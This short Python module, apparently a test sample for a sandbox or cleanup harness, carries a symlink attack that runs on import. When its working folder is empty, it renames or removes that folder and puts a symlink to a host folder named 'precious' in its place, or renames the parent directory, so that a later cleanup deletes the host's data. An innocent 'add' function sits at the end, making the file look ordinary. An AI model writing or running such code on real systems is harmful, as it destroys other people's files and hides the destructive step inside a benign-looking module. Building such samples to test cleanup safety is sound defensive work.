"""Puts a link to a folder of the host's in the place of its working folder, for whoever empties that afterwards."""

import os

EVIDENCE = "@EVIDENCE@"
HERE = os.getcwd()


def swap_itself():
    os.chdir("/")
    os.rename(HERE, f"{HERE}.old")
    os.symlink(f"{EVIDENCE}/precious", HERE)


def swap_for_nothing():
    os.chdir("/")
    os.rmdir(HERE)
    os.symlink(f"{EVIDENCE}/precious", HERE)


def move_parent():
    parent = os.path.dirname(HERE)
    if parent not in {"/", "/tmp"}:
        os.rename(parent, f"{parent}.old")


if not os.listdir(HERE):  # nobody's work lies here
    for attempt in (swap_itself, swap_for_nothing, move_parent):
        try:
            attempt()
        except OSError:
            continue


def add(a, b):
    return a + b
